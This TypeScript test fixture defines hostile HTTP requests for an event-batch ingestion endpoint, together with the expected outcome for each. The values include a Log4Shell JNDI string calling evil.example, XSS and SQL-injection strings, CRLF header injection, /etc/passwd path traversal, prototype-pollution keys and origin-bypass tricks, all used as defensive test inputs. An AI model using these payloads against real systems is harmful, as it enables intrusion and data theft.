/**
 * Hostile requests around a good batch: keys, headers, queries, methods and paths. Headers are ASCII here; the journey
 * sends the others, about which the runtime remarks.
 */

import { batchText, goodEvent, type Outcome } from './bad-input-cases.ts'
import type { PostInit } from './fakes.ts'

/** A request to a route that takes events. */
export interface RequestCase {
  what: string
  /** Default: `POST /v1/batch` with a batch of one good event, `good-0`, and the write key in the body. */
  init: PostInit
  outcome: Outcome
  /** Elements that it holds; default 1. */
  count?: number
  /** Whether its element is the good one; default true. */
  isGood?: boolean
}

/** A request that holds no events for us, or has no business with them: its status, and the code when it is refused. */
export interface OtherCase {
  what: string
  init: PostInit
  status: number
  code?: string
}

/** A good batch without its key. */
const KEYLESS = `{"batch":[${goodEvent('good-0')}]}`

/** The same with its key. */
const GOOD = batchText([goodEvent('good-0')])

const basic = (credentials: string) => `Basic ${btoa(credentials)}`

type HeaderRow = [what: string, value: string, outcome: Outcome]

const AUTHORIZATIONS: HeaderRow[] = [
  ['empty', '', 'missing_write_key'],
  ['a scheme alone', 'Basic', 'missing_write_key'],
  ['a scheme and spaces', 'Basic   \t ', 'missing_write_key'],
  ['another scheme alone', 'Bearer', 'missing_write_key'],
  ['an empty name and password', basic(':'), 'unknown_write_key'],
  ['a bare colon', 'Basic :', 'missing_write_key'],
  ['bare colons', 'Basic ::::', 'unknown_write_key'],
  ['no base64', 'Basic !!!!', 'unknown_write_key'],
  ['base64 with too much padding', 'Basic d2s6====', 'unknown_write_key'],
  ['base64 cut short', 'Basic d2s6d', 'unknown_write_key'],
  ['base64 of what is no UTF-8', basic('\xff\xfe\x80:'), 'unknown_write_key'],
  ['base64 of UTF-16', basic('w\0k\0:\0'), 'unknown_write_key'],
  ['a key with a NUL', basic('wk\0:'), 'unknown_write_key'],
  ['a NUL before the key', basic('\0wk:'), 'unknown_write_key'],
  ['a key with a line break', basic('wk\r\n:'), 'unknown_write_key'],
  ['a key with a header of its own', basic('wk\r\nX-Evil: 1'), 'unknown_write_key'],
  ['a key with an escaped line break', 'Bearer wk%0d%0aX-Evil:%201', 'unknown_write_key'],
  ['a key with a space', basic(' wk:'), 'unknown_write_key'],
  ['a key in capitals', basic('WK:'), 'unknown_write_key'],
  ['a key of control characters', basic('\x01\x02\x1b[31m'), 'unknown_write_key'],
  ['a key by prototype', basic('__proto__:'), 'unknown_write_key'],
  ['a constructor', 'Bearer constructor', 'unknown_write_key'],
  ['the name of the source', basic('shop:'), 'unknown_write_key'],
  ['a secret key with one more', basic('skk:'), 'unknown_write_key'],
  ['a secret key twice', basic('sksk:'), 'unknown_write_key'],
  ['100,000 letters', `Basic ${'A'.repeat(100_000)}`, 'unknown_write_key'],
  ['100,000 letters of no scheme', 'B'.repeat(100_000), 'missing_write_key'],
  ['100,000 colons', basic(':'.repeat(100_000)), 'unknown_write_key'],
  ['50,000 spaces', `Basic${' '.repeat(50_000)}d2s6`, 'stored'],
  ['50,000 words', `Bearer ${'wk '.repeat(50_000)}`, 'stored'],
  ['no scheme but the key', 'wk', 'missing_write_key'],
  ['no scheme but base64', 'd2s6', 'missing_write_key'],
  ['a digest', 'Digest username="wk", realm="", nonce="", uri="/", response=""', 'missing_write_key'],
  ['a signature', 'AWS4-HMAC-SHA256 Credential=wk/20261121/us/s3/aws4_request', 'missing_write_key'],
  ['Negotiate', 'Negotiate d2s6', 'missing_write_key'],
  ['a scheme and a comma', 'Basic, d2s6', 'missing_write_key'],
  ['two schemes', 'Basic d2s6, Bearer wk', 'unknown_write_key'],
  ['two schemes, the first unknown', 'Digest x, Basic d2s6', 'missing_write_key'],
  ['a scheme in capitals', 'BASIC d2s6', 'stored'],
  ['a scheme in small letters', 'bEARER wk', 'stored'],
  ['a tab', 'Basic\td2s6', 'stored'],
  ['more words', 'Basic d2s6 and more', 'stored'],
  ['a password with colons', basic('wk:a:b::'), 'stored'],
  ['a password of NUL', basic('wk:\0\0\0'), 'stored'],
  ['the secret key', basic('sk:'), 'stored'],
]

/** Where the keys are: in the header, in the body as JSON text, in the query; empty where there is none. */
const KEYS: [what: string, header: string, body: string, query: string, Outcome][] = [
  ['unknown in the header, good in the body', 'Bearer x', '"wk"', '', 'stored'],
  ['unknown in header and body, good in the query', 'Bearer x', '"y"', '?writeKey=wk', 'stored'],
  ['good in the header, unknown elsewhere', 'Bearer wk', '"x"', '?writeKey=y', 'stored'],
  ['good in the header, no text in the body', 'Bearer wk', '{"a":["wk"]}', '?writeKey=', 'stored'],
  ['unknown everywhere', 'Bearer x', '"y"', '?writeKey=z', 'unknown_write_key'],
  ['empty everywhere', 'Bearer', '""', '?writeKey=', 'missing_write_key'],
  ['of no use in the header, empty in the body', 'Digest wk', '""', '?writeKey=wk', 'stored'],
  ['public in the header, secret in the body', basic('wk:'), '"sk"', '', 'unknown_write_key'],
  ['public in the header, secret in the query', basic('wk:'), '""', '?writeKey=sk', 'unknown_write_key'],
  ['secret in header and body', basic('sk:'), '"sk"', '', 'unknown_write_key'],
  ['secret in the body', '', '"sk"', '', 'unknown_write_key'],
  ['public in the body, secret in the query', '', '"wk"', '?writeKey=sk', 'unknown_write_key'],
  ['an array', '', '["wk"]', '', 'missing_write_key'],
  ['an object', '', '{"toString":"wk","length":2}', '', 'missing_write_key'],
  ['true', '', 'true', '', 'missing_write_key'],
  ['with a NUL', '', '"wk\\u0000"', '', 'unknown_write_key'],
  ['with a line break', '', '"wk\\r\\nX-Evil: 1"', '', 'unknown_write_key'],
  ['of full-width letters', '', '"\uff57\uff4b"', '', 'unknown_write_key'],
  ['with a lone surrogate', '', '"\\udc00wk"', '', 'unknown_write_key'],
  ['with what joins nothing', '', '"w\u200dk"', '', 'unknown_write_key'],
  ['of 400 KB', '', `"${'k'.repeat(400_000)}"`, '', 'unknown_write_key'],
]

const long = (text: string, length = 8_192) => text.repeat(Math.ceil(length / text.length)).slice(0, length)

/** Queries of a batch without any other key. */
const QUERIES: [query: string, Outcome][] = [
  ['?', 'missing_write_key'],
  ['?writeKey', 'missing_write_key'],
  ['?writeKey=', 'missing_write_key'],
  ['?writeKey[]=wk', 'missing_write_key'],
  ['?writekey=wk', 'missing_write_key'],
  ['?__proto__=wk', 'missing_write_key'],
  ['?__proto__[writeKey]=wk', 'missing_write_key'],
  ['??writeKey=wk', 'missing_write_key'],
  ['?writeKey=&writeKey=wk', 'missing_write_key'],
  ['?writeKey=x&writeKey=wk', 'unknown_write_key'],
  ['?writeKey=%', 'unknown_write_key'],
  ['?writeKey=%E0%A4%A', 'unknown_write_key'],
  ['?writeKey=%ff%fe', 'unknown_write_key'],
  ['?writeKey=%ED%A0%80', 'unknown_write_key'],
  ['?writeKey=wk%00', 'unknown_write_key'],
  ['?writeKey=wk%0d%0aX-Evil:1', 'unknown_write_key'],
  ['?writeKey=wk+', 'unknown_write_key'],
  ['?writeKey=wk;x=1', 'unknown_write_key'],
  ['?writeKey=__proto__', 'unknown_write_key'],
  [`?writeKey=${long('k')}`, 'unknown_write_key'],
  ['?%77rite%4bey=%77k', 'stored'],
  ['?writeKey=wk&writeKey=x', 'stored'],
  ['?writeKey=wk&source=blog&batch=[]&__proto__=1', 'stored'],
  [`?writeKey=wk&x=${long('%')}`, 'stored'],
  [`?${long('%FF=%&')}&writeKey=wk`, 'stored'],
  [`?${long('a&')}&writeKey=wk`, 'stored'],
  [`?${long('writeKe=wk&')}&writeKey=wk`, 'stored'],
]

/** Headers that must not matter to a batch with its key in the body. */
const HARMLESS: Record<string, readonly string[]> = {
  'content-type': [
    '',
    'application/json; charset=utf-16',
    'application/json;;;charset',
    'multipart/form-data; boundary=',
    'application/x-www-form-urlencoded',
    'application/x-protobuf',
    'text/html',
    '////',
    long('x/y;', 10_000),
  ],
  'content-length': ['', 'abc', '-1', '0', 'NaN', '0x10', '1, 2'],
  origin: [
    '',
    'null',
    'x',
    'file://',
    'data:text/html,x',
    'javascript:alert(1)',
    'https://a.example, https://b.example',
    long('https://a.example/', 10_000),
  ],
  referer: ['', 'null', '%', '//', 'https://', 'about:blank', 'https://[::1', long('https://a.example/')],
  'user-agent': [
    '',
    ' ',
    `\${jndi:ldap://evil.example/a}`,
    "<script>alert(1)</script>'; DROP TABLE events; --",
    '__proto__',
    'Mozilla/5.0',
    long('Mozilla/5.0 (', 20_000),
    `Mozilla/5.0 (${long('Linux; Android ')}`,
    `Mozilla/5.0 (${long(';')})`,
    long('(', 20_000),
    long(' /', 20_000),
    long('Version/1.0 Mobile Safari/1.0 ', 20_000),
  ],
  cookie: ['', ';', '=', '%', '__proto__=x', long('a=b;', 20_000)],
  'sec-gpc': ['', '0', '2', 'true', '1, 1', ' 1 ', long('1')],
  'sec-ch-ua': [
    '',
    '"',
    '"a";v="',
    ';;;',
    '"\\"";v="\\"',
    '"a";v="1",,"b"',
    long('"\\"'),
    long('"a";v="1", '),
  ],
  'sec-ch-ua-mobile': ['', '?2', '?1?1', 'true', long('?1')],
  'sec-ch-ua-platform': ['', '"', '\\', '"\\"', long('"W"')],
  'sec-ch-ua-platform-version': ['', '"x"', '"99999999999999999999.0.0"', '"-1"', long('"1."')],
  'sec-ch-ua-full-version-list': ['"', '"Chrome";v="x"', long('"Chrome";v="1.2.3.4",')],
  'sec-ch-ua-model': ['"', '"\\', long('"m')],
  'cf-connecting-ip': ['', 'x', '999.1.1.1', '::', '::ffff:1.2.3.4', '1.2.3.4, 5.6.7.8', '[::1]', long('1.')],
  'x-forwarded-for': ['127.0.0.1', long('127.0.0.1, ')],
  'x-http-method-override': ['DELETE'],
  host: ['evil.example'],
  upgrade: ['websocket'],
  range: ['bytes=0-1'],
  'if-none-match': ['*'],
  'accept-encoding': ['identity;q=0, *;q=0', long('gzip,')],
}

/** Origins, and whether pages of them may send where `https://shop.example` and all below it are allowed. */
const ORIGINS: [header: 'origin' | 'referer', value: string, isAllowed: boolean][] = [
  ['origin', '', false],
  ['origin', 'null', false],
  ['origin', 'http://shop.example', false],
  ['origin', 'https://shop.example:8443', false],
  ['origin', 'https://shop.example/', false],
  ['origin', 'HTTPS://SHOP.EXAMPLE', false],
  ['origin', 'https://shop.example.', false],
  ['origin', 'https://shop.example.evil.example', false],
  ['origin', 'https://evilshop.example', false],
  ['origin', 'https://.shop.example', false],
  ['origin', 'https://*.shop.example', false],
  ['origin', 'https://evil.example/.shop.example', false],
  ['origin', 'https://evil.example#.shop.example', false],
  ['origin', 'https://evil.example?.shop.example', false],
  ['origin', 'https://evil.example\\.shop.example', false],
  ['origin', 'https://user@a.shop.example', false],
  ['origin', 'https://a:1.shop.example', false],
  ['origin', 'https://evil.example%00.shop.example', false],
  ['origin', 'https://shop.example, https://evil.example', false],
  ['origin', 'https://evil.example, https://a.shop.example', false],
  ['origin', `https://${long('evil.')}example`, false],
  ['origin', 'https://a.b-c.shop.example', true],
  ['referer', 'https://evil.example/https://shop.example/', false],
  ['referer', 'https://shop.example@evil.example/', false],
  ['referer', 'about:blank', false],
  ['referer', 'data:,https://shop.example', false],
  ['referer', 'https://shop.example/%ff?%', true],
  ['referer', 'blob:https://shop.example/1', true],
  ['referer', 'no address at all', true],
]

/** Cookies of a source that keeps its visitors' ids in one. */
const COOKIES: readonly string[] = [
  'millrace_id',
  'millrace_id=',
  'millrace_id=%',
  'millrace_id=%00',
  'millrace_id=%0d%0aSet-Cookie:%20evil=1',
  'millrace_id=%ED%A0%80',
  'millrace_id=%F0%9F%98%80',
  'millrace_id="quoted"',
  'millrace_id=a=b=c',
  'millrace_id=__proto__',
  'millrace_id=one; millrace_id=two',
  'MILLRACE_ID=x',
  `millrace_id=${long('a', 300)}`,
  `millrace_id=${long('%E2%82%AC', 9 * 256)}`,
  `millrace_id=${long('%', 20_000)}`,
  `${long('a=b; ', 20_000)}; millrace_id=x`,
  long(';', 20_000),
]

/** Paths of `POST` with a good batch. A path that a URL parser makes into another is that other one. */
const PATHS: [path: string, Outcome][] = [
  ['/', 'not_found'],
  ['/v1', 'not_found'],
  ['/v1/', 'not_found'],
  ['/v1/batch/1', 'not_found'],
  ['/v1/batch//', 'not_found'],
  ['//v1/batch', 'not_found'],
  ['/v1//batch', 'not_found'],
  ['/V1/BATCH', 'not_found'],
  ['/v1/Batch', 'not_found'],
  ['/v1%2fbatch', 'not_found'],
  ['/v1/batch%00', 'not_found'],
  ['/v1/batch%20', 'not_found'],
  ['/v1/batch%3fwriteKey=wk', 'not_found'],
  ['/v1/batch;a=b', 'not_found'],
  ['/v1/batch.json', 'not_found'],
  ['/v1/%62%61tch%', 'not_found'],
  ['/%ff%fe', 'not_found'],
  ['/%ED%A0%80', 'not_found'],
  ['/v2/batch', 'not_found'],
  ['/v1/__proto__', 'not_found'],
  ['/v1/constructor', 'not_found'],
  ['/v1/:name', 'not_found'],
  ['/*', 'not_found'],
  ['/../../etc/passwd', 'not_found'],
  ['/..%2f..%2fetc%2fpasswd', 'not_found'],
  ['/v1/lookups/../batchx', 'not_found'],
  [`/${long('a/')}`, 'not_found'],
  [`/v1/${long('%2e%2e%2f')}batch`, 'not_found'],
  ['/v1/health', 'not_found'],
  ['/health', 'method_not_allowed'],
  ['/pixel/v1/track', 'method_not_allowed'],
  ['/v1/pixel/page', 'method_not_allowed'],
  ['/sourceConfig', 'method_not_allowed'],
  ['/v1/projects/wk/settings', 'method_not_allowed'],
  ['/v1/lookups/products', 'method_not_allowed'],
  ['/openapi.json', 'method_not_allowed'],
  ['/v1/batch/', 'stored'],
  ['/v1/./batch', 'stored'],
  ['/v2/../v1/batch', 'stored'],
  ['/v2/%2e%2e/v1/batch', 'stored'],
  ['\\v1\\batch', 'stored'],
  ['/v1/%62atch', 'stored'],
]

/** In full, so that no slash of a path is taken for another. */
const at = (path: string) => `http://localhost${path}`

const METHODS: [method: string, path: string][] = [
  ...['GET', 'PUT', 'DELETE', 'PATCH', 'PROPFIND', 'QUERY', 'patch'].map((method): [string, string] => [
    method,
    '/v1/batch',
  ]),
  ...['/v1/b', '/v1/track', '/v1/t', '/v1/import', '/v1/m', '/v1/replay', '/beacon/v1/batch'].flatMap(
    (path): [string, string][] => [
      ['GET', path],
      ['PUT', path],
    ],
  ),
  ...['/health', '/openapi.json', '/sourceConfig', '/v1/projects/wk/settings'].flatMap(
    (path): [string, string][] => [
      ['DELETE', path],
      ['PUT', path],
    ],
  ),
  ['GET', '/v1/lookups/products'],
  ['DELETE', '/v1/lookups/products'],
  ['DELETE', '/pixel/v1/track'],
  ['PUT', '/v1/pixel/track'],
]

function hasBody(method: string): boolean {
  return method !== 'GET' && method !== 'HEAD'
}

function printable(text: string): string {
  return JSON.stringify(text.length > 60 ? `${text.slice(0, 60)}… (${text.length})` : text)
}

/** Requests with one good event, `good-0`. */
export const HOSTILE_REQUESTS: readonly RequestCase[] = [
  ...AUTHORIZATIONS.map(([what, authorization, outcome]) => ({
    what: `Authorization is ${what}`,
    init: { body: KEYLESS, headers: { authorization } },
    outcome,
  })),
  ...KEYS.map(([what, authorization, body, query, outcome]) => ({
    what: `the key is ${what}`,
    init: {
      path: `/v1/batch${query}`,
      body: `{"writeKey":${body},${KEYLESS.slice(1)}`,
      headers: authorization === '' ? {} : { authorization },
    },
    outcome,
  })),
  ...QUERIES.map(([query, outcome]) => ({
    what: `the query is ${printable(query)}`,
    init: { path: `/v1/batch${query}`, body: KEYLESS },
    outcome,
  })),
  ...Object.entries(HARMLESS).flatMap(([name, values]) =>
    values.map((value) => ({
      what: `${name} is ${printable(value)}`,
      init: { body: GOOD, headers: { [name]: value } },
      outcome: 'stored' as const,
    })),
  ),
  {
    what: 'a length is declared that is too much',
    init: { body: GOOD, headers: { 'content-length': '1e9' } },
    outcome: 'body_too_large',
  },
  {
    what: 'all odd headers come at once, and three hundred others',
    init: { body: GOOD, headers: manyHeaders() },
    outcome: 'stored',
  },
  ...PATHS.map(([path, outcome]) => ({
    what: `the path is ${printable(path)}`,
    init: { path: at(path), body: GOOD },
    outcome,
  })),
  ...METHODS.map(([method, path]) => ({
    what: `the method is ${printable(method)} at ${path}`,
    init: { path, method, ...(hasBody(method) ? { body: GOOD } : {}) },
    outcome: 'method_not_allowed' as const,
  })),
]

/** Requests of pages with one good event, to a source that allows {@link ALLOWED_ORIGINS}. */
export const ORIGIN_REQUESTS: readonly RequestCase[] = ORIGINS.map(([header, value, isAllowed]) => ({
  what: `${header} is ${printable(value)}`,
  init: { body: GOOD, headers: { [header]: value } },
  outcome: isAllowed ? 'stored' : 'origin_not_allowed',
}))

/** Allowed origins of {@link ORIGIN_REQUESTS}. */
export const ALLOWED_ORIGINS: readonly string[] = ['https://shop.example', 'https://*.shop.example']

/** Requests of browsers with one good event, to a source that gives ids by cookie. */
export const COOKIE_REQUESTS: readonly RequestCase[] = COOKIES.map((cookie) => ({
  what: `Cookie is ${printable(cookie)}`,
  init: { body: GOOD, headers: { cookie, 'user-agent': 'Mozilla/5.0' } },
  outcome: 'stored',
}))

/** Preflights: whatever they ask, they are answered and nothing is stored. */
export const PREFLIGHTS: readonly [what: string, path: string, headers: Record<string, string>][] = [
  ['nothing', '/v1/batch', {}],
  ['an unknown path', '/nowhere', { origin: 'https://a.example' }],
  ['a path with a broken escape', '/v1/batch%', { origin: 'null' }],
  ['an empty origin', '/v1/batch', { origin: '', 'access-control-request-method': '' }],
  ['an unknown method', '/v1/batch', { origin: 'x', 'access-control-request-method': 'BREW' }],
  ['no names of headers', '/v1/batch', { 'access-control-request-headers': ',,, ,' }],
  ['bad names of headers', '/v1/batch', { 'access-control-request-headers': 'a b, c:d, "e"' }],
  ['a hundred thousand letters', '/v1/batch', { 'access-control-request-headers': long('a,', 100_000) }],
  ['a private network', '/v1/batch', { 'access-control-request-private-network': 'true' }],
  ['much', '/v1/batch', manyHeaders()],
]

function manyHeaders(): Record<string, string> {
  const odd = Object.entries(HARMLESS).map(([name, values]) => [name, values.at(-1) ?? ''])
  const others = Array.from({ length: 300 }, (_, i) => [`x-header-${i}`, long('v', 100)])
  return Object.fromEntries([...odd, ...others])
}
